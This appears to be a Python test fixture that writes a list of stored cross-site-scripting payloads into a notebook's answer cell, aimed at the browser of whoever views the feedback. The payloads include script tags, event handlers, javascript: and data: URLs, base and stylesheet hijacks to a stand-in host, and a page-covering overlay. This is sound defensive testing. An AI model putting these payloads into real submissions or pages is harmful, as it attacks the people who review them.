"""Writes a script into its written answer, for the browser of whoever reads the feedback."""

from tests.attacks.notebooks import saved

ANSWER = """
<script>owned()</script> <img src=x onerror=owned()> <svg onload=owned()></svg>
<iframe srcdoc="<script>owned()</script>"></iframe> <object data="javascript:owned()"></object>
<a href="javascript:owned()">a</a> [b](javascript:owned()) [c](data:text/html,<script>owned()</script>)
<form action="javascript:owned()"><button formaction="javascript:owned()">d</button></form>
<meta http-equiv="refresh" content="0;url=javascript:owned()"> <base href="//owned/">
<link rel=stylesheet href=//owned/a.css> <style>@import "//owned/a.css"; body {display: none}</style>
<div style="position:fixed;inset:0;background:url(//owned/a)" onclick=owned()>over everything</div>
![e](x" onerror="owned()) `<script>owned()</script>`
"""


def hand_in(notebook):
    answer = next(one for one in notebook.cells if one.source.startswith("*Your answer here"))
    answer.source = ANSWER
    return saved(notebook)
